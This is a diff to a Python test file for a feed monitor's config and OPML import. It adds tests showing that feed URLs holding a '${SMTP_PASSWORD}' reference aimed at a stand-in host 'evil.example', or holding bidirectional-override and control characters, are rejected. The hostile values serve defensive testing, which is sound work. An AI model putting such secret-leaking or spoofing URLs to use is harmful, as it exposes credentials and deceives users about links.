@@ -504,9 +504,7 @@ def test_store_may_be_a_postgresql_url_without_a_password(tmp_path, monkeypatch)
     assert "MONITOR_STORE" in issues_of(write(tmp_path, "store: postgresql://a:b@db/x\n"))[0].hint
 
 
-def test_a_store_url_that_does_not_parse_or_a_connection_string_is_one_line(
-    tmp_path, monkeypatch
-):
+def test_a_store_url_that_does_not_parse_or_a_connection_string_is_one_line(tmp_path, monkeypatch):
     # an unclosed "[" made urlsplit raise: every command ended in "unexpected ValueError";
     # a libpq "key=value" string was taken for a folder and printed, password and all
     monkeypatch.delenv("MONITOR_STORE", raising=False)
@@ -802,6 +800,58 @@ def test_import_opml_adds_feeds_and_keeps_comments(tmp_path):
     assert feeds["https://cafe.example.com/rss"].tags == ("world-news", "food", "coffee", "opinion")
     assert feeds["https://diario.example.sv/feed/"].tags == ("latin-america", "el-salvador")
     assert feeds["https://untitled.example.org/atom.xml"].name == "untitled.example.org"
+
+
+def test_import_opml_never_takes_a_variable_reference_or_a_control_character(tmp_path, monkeypatch):
+    # an OPML file from anywhere could name ${SMTP_PASSWORD} in a feed URL: the poller then
+    # sent its value to the OPML's host; a bidirectional override makes a URL read as another
+    monkeypatch.setenv("SMTP_PASSWORD", "s3cret-value")
+    opml = tmp_path / "feeds.opml"
+    opml.write_text(
+        '<?xml version="1.0"?><opml version="2.0"><body>'
+        '<outline text="Leak" xmlUrl="https://evil.example/rss?k=${SMTP_PASSWORD}"/>'
+        '<outline text="Bidi" xmlUrl="https://evil.example/&#x202e;lmx.ssr"/>'
+        '<outline text="Ctrl" xmlUrl="https://evil.example/rss&#1;"/>'
+        '<outline text="Fine" xmlUrl="https://ok.example/rss"/>'
+        "</body></opml>",
+        encoding="utf-8",
+    )
+    config_path = write(tmp_path, "feeds: []\n")
+    report = import_opml(opml, config_path)
+    assert report.added == ["https://ok.example/rss"]
+    assert report.reasons == [
+        "holds a ${VAR} reference: an OPML file may not read your environment",
+        "a control character in the URL",
+        "a control character in the URL",
+    ]
+    assert "SMTP_PASSWORD" not in config_path.read_text()
+    assert [f.url for f in load_config(config_path).feeds] == ["https://ok.example/rss"]
+
+
+def test_a_feed_url_with_a_control_character_is_an_error(tmp_path):
+    path = write(
+        tmp_path,
+        """
+        feeds:
+          - name: Bidi
+            url: "https://example.org/\\u202egnp.exe"
+          - name: Control
+            url: "https://example.org/rss\\x01"
+          - name: Zero width
+            url: "https://exa\\u200bmple.org/rss"
+        """,
+    )
+    issues = issues_of(path)
+    assert [(i.line, i.where) for i in issues] == [
+        (3, "feeds[0].url"),
+        (5, "feeds[1].url"),
+        (7, "feeds[2].url"),
+    ]
+    assert [i.what for i in issues] == [
+        "a control character in the URL (U+202E)",
+        "a control character in the URL (U+0001)",
+        "a control character in the URL (U+200B)",
+    ]
 
 
 def test_import_opml_twice_adds_nothing_the_second_time(tmp_path):
